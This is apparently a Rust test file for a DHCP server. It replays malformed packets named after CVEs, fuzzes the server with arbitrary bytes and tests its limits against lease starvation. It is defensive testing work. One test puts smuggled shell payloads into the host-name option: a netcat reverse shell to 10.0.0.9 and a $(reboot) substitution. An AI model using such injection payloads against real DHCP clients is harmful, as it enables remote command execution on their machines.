//! Messages that were made to hurt, each flaw under its number; and arbitrary ones.

use super::*;
use proptest::prelude::*;

#[test]
fn cve_2019_6472_a_client_identifier_of_254_bytes() {
    let mut lab = Lab::new();
    for (length, last) in [(254, 9), (255, 10)] {
        let id = vec![0xa5; length];
        let ack = lab.lease_as(&Packet::new(DISCOVER, last).option(61, &id));
        assert_eq!(ack.option(61), Some(&id[..]));
    }
    let joined = Packet::new(DISCOVER, 11).option(61, &[1; 200]).option(61, &[1; 56]);
    assert_eq!(lab.send(&joined), [], "longer than one option holds");
    lab.restart();
    assert_eq!(lab.server.leases().filter(|lease| lease.client_id.is_some()).count(), 2);
}

#[test]
fn cve_2019_6473_malformed_host_names() {
    let mut lab = Lab::new();
    let fqdns: [&[u8]; 8] =
        [b"", b"\0", b"\x04\0\0", b"\x04\0\0\0", b"\x04\0\0\xff", b"\x04\0\0\xc0\0", b"\0\0\0...", b"\x04\0\0\x01"];
    for (option, texts) in [(81, fqdns), (12, [b"", b"\0", b".", b"..", b"\xff\xff", b"-", b"'$(;\n", b"a.b.c"])] {
        for text in texts {
            let ack = lab.lease_as(&Packet::new(DISCOVER, 9).option(option, text));
            assert_eq!(lab.name_of(ack.yiaddr()), None, "{option} {text:?}");
        }
    }
}

#[test]
fn cve_2019_6474_a_hundred_bad_packets_then_a_restart() {
    let mut lab = Lab::new();
    for number in 0..=100u8 {
        let id = vec![number; usize::from(number)];
        let bad =
            Packet::from(DISCOVER, MacAddr([2, 0, 0, 0, 1, number])).option(61, &id).option(12, &id).option(81, &id);
        lab.lease_as(&bad);
    }
    let before: Vec<Lease> = lab.server.leases().cloned().collect();
    lab.restart();
    let after: Vec<Lease> = lab.server.leases().cloned().collect();
    let identity = |lease: &Lease| (lease.address, lease.client_id.clone(), lease.host_name.clone(), lease.state);
    assert!(before.iter().map(identity).eq(after.iter().map(identity)));
}

#[test]
fn cve_2025_40779_unicast_from_a_wrong_network() {
    let mut lab = Lab::new();
    let away = Ipv4Addr::new(203, 0, 113, 7);
    for kind in [REQUEST, INFORM, DISCOVER, RELEASE, DECLINE] {
        let packet = Packet::new(kind, 9).ciaddr(away).option(55, &[1, 3, 6, 43, 82]).option(93, &[0, 7]);
        for sent in lab.send_as(&packet, Cast::Unicast) {
            assert!(!matches!(sent.to, Destination::Unicast(_)), "nothing leaves the LAN");
        }
    }
}

#[test]
fn cve_2025_11232_a_name_of_illegal_characters_only() {
    let mut lab = Lab::new();
    let ack = lab.lease_as(&Packet::new(DISCOVER, 9).option(12, b"!!!").option(81, b"\0\0\0???"));
    assert_eq!((ack.option(12), lab.name_of(ack.yiaddr())), (None, None));
}

#[test]
fn cve_2022_2928_many_lease_queries() {
    let mut lab = Lab::new();
    let address = lab.lease(9);
    for kind in 0..=255u8 {
        for _ in (0..256).filter(|_| !(1..=8).contains(&kind)) {
            assert_eq!(lab.send(&Packet::new(kind, 9).ciaddr(address)), []);
        }
    }
    assert_eq!(lab.server.table.entries().count(), 4);
}

#[test]
fn cve_2018_1111_shell_text_in_a_name_stays_inert() {
    let mut lab = Lab::new();
    let ack = lab.lease_as(&Packet::new(DISCOVER, 9).option(12, b"x'&nc -e /bin/sh 10.0.0.9 4444 #"));
    assert_eq!(ack.option(12), None, "dots make it another domain's name");
    let ack = lab.lease_as(&Packet::new(DISCOVER, 9).option(12, b"x'$(reboot);\n<b>"));
    assert_eq!(ack.option(12), Some(&b"xrebootb"[..]));
}

#[test]
fn odhcpd_2026_padding_in_the_middle_and_options_without_length() {
    let mut lab = Lab::new();
    let mut padded = Packet::new(DISCOVER, 9);
    padded.options.splice(0..0, [0, 0, 0]);
    padded.options.extend([0; 40]);
    assert_eq!(lab.ask(&padded.option(12, b"laptop")).option(12), Some(&b"laptop"[..]));
    for code in (1..=254).filter(|code| ![50, 53, 54, 80, 118].contains(code)) {
        assert_eq!(lab.ask(&Packet::new(DISCOVER, 9).option(code, &[])).kind(), OFFER, "option {code}");
    }
    for code in [50, 53, 54, 118] {
        assert_eq!(lab.send(&Packet::new(DISCOVER, 9).option(code, &[1])), [], "option {code}");
    }
    let torn = Packet::new(DISCOVER, 9).bytes();
    let torn = [&torn[..torn.len() - 1], &[12]].concat();
    assert_eq!(lab.send_bytes(&torn, Cast::Broadcast).len(), 1, "a code without a length ends the list");
}

#[test]
fn fields_that_lie() {
    let mut lab = Lab::new();
    let good = Packet::new(DISCOVER, 9);
    assert_eq!(lab.send(&good).len(), 1);
    for (offset, byte) in [(0, 2), (0, 0), (2, 17), (2, 255), (236, 0)] {
        assert_eq!(lab.send(&good.clone().at(offset, &[byte])), [], "byte {offset} is {byte}");
    }
    assert_eq!(lab.send(&good.clone().at(28, &[0; 6])), [], "nobody's hardware address");
    let mut huge = good.bytes();
    huge.resize(4000, 0);
    assert_eq!(lab.send_bytes(&huge, Cast::Broadcast), []);
    for length in 0..=good.bytes().len() {
        lab.send_bytes(&good.bytes()[..length], Cast::Unicast);
    }
}

#[test]
fn starvation_new_clients_are_counted_by_the_second() {
    let mut settings = settings();
    settings.offers_per_second = 3;
    let mut lab = Lab::with(settings);
    let answered = |lab: &mut Lab, range: core::ops::Range<u8>| {
        range.filter(|last| !lab.send(&Packet::new(DISCOVER, *last)).is_empty()).count()
    };
    let known = lab.lease(39);
    assert_eq!(answered(&mut lab, 40..50), 2);
    assert_eq!(lab.notes, [Note::TooManyClients]);
    assert_eq!(lab.ask(&Packet::new(DISCOVER, 39)).yiaddr(), known, "a known client is not counted");
    assert_eq!(lab.lease(2), ip(2), "nor is a host of the configuration");
    lab.pass(1);
    assert_eq!(answered(&mut lab, 50..60), 3);
}

#[test]
fn starvation_unanswered_offers_make_room() {
    let mut lab = Lab::new();
    let flood = |number: u8| Packet::from(DISCOVER, MacAddr([2, 0, 0, 0, 9, number]));
    let offered = (0..=255).filter(|number| !lab.send(&flood(*number)).is_empty()).count();
    assert_eq!(offered, 117, "the pool without its two reserved addresses");
    assert_eq!(lab.send(&Packet::new(DISCOVER, 9)), []);
    lab.pass(OFFER_MIN_HOLD.as_secs());
    lab.lease(9);
}

#[test]
fn starvation_the_table_has_a_cap() {
    let mut settings = settings();
    settings.lan = "10.0.0.1/8".parse().unwrap();
    settings.pool = (Ipv4Addr::new(10, 1, 0, 0), Ipv4Addr::new(10, 250, 0, 0));
    settings.offers_per_second = u32::MAX;
    let mut lab = Lab::with(settings);
    let client = |number: u32| {
        let [_, b, c, d] = number.to_be_bytes();
        Packet::from(DISCOVER, MacAddr([2, 0, 1, b, c, d]))
    };
    let cap = u32::try_from(MAX_DYNAMIC).unwrap();
    let first = lab.lease_as(&client(0)).yiaddr();
    (1..cap).for_each(|number| drop(lab.lease_as(&client(number))));
    assert_eq!(lab.send(&client(cap)), []);
    assert_eq!(lab.notes, [Note::PoolExhausted]);
    assert_eq!(lab.lease(2), ip(2));
    lab.send(&client(0).ciaddr(first).at(240, &[]));
    let mut release = client(0).ciaddr(first);
    release.options[2] = RELEASE;
    lab.send(&release);
    assert_eq!(lab.lease_as(&client(cap)).yiaddr(), first, "the oldest memory makes room");
    lab.server.table.check();
}

/// Something like a client's message: right at the start, arbitrary from there.
fn near_packet() -> impl Strategy<Value = Vec<u8>> {
    let option = (any::<u8>(), proptest::collection::vec(any::<u8>(), 0..20));
    let interesting = proptest::sample::select(vec![12u8, 50, 51, 52, 53, 54, 55, 57, 61, 81, 82, 0, 255]);
    let options = proptest::collection::vec((interesting, option), 0..12);
    let kind = 0u8..10;
    (kind, 40u8..44, options, any::<[u8; 4]>(), 0usize..400).prop_map(|(kind, last, options, noise, cut)| {
        let mut packet = Packet::new(kind, last);
        if noise[0] < 60 {
            packet = packet.at(usize::from(noise[1]) % 48, &noise[2..]);
        }
        for (code, (other, bytes)) in options {
            let code = if other < 200 { code } else { other };
            let bytes = if noise[3] < 128 && code == 54 { SERVER.octets().to_vec() } else { bytes };
            let bytes = if noise[3] < 128 && code == 50 { ip(bytes.len() as u8).octets().to_vec() } else { bytes };
            packet = packet.option(code, &bytes);
        }
        let mut bytes = packet.bytes();
        bytes.truncate(if noise[3] % 4 == 0 { cut } else { usize::MAX });
        bytes
    })
}

proptest! {
    #[test]
    fn arbitrary_bytes_are_survived(packets in proptest::collection::vec(any::<Vec<u8>>(), 0..20)) {
        let mut lab = Lab::new();
        for packet in packets {
            prop_assert_eq!(lab.send_bytes(&packet, Cast::Unicast), []);
        }
    }

    #[test]
    fn near_packets_are_survived(packets in proptest::collection::vec((near_packet(), 0u64..40), 0..60)) {
        let mut lab = Lab::new();
        for (packet, secs) in packets {
            lab.send_bytes(&packet, Cast::Broadcast);
            lab.server.table.check();
            lab.pass(secs);
        }
        lab.restart();
        lab.server.table.check();
    }
}
